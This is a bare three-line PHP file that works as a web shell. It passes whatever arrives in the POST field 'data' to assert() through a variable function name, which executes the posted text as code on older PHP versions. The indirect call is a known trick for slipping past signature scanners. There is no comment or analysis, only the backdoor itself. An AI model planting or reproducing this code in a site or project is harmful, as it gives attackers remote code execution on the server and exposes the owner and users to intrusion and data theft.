<?php
$fn = 'assert';
$fn($_POST['data']);
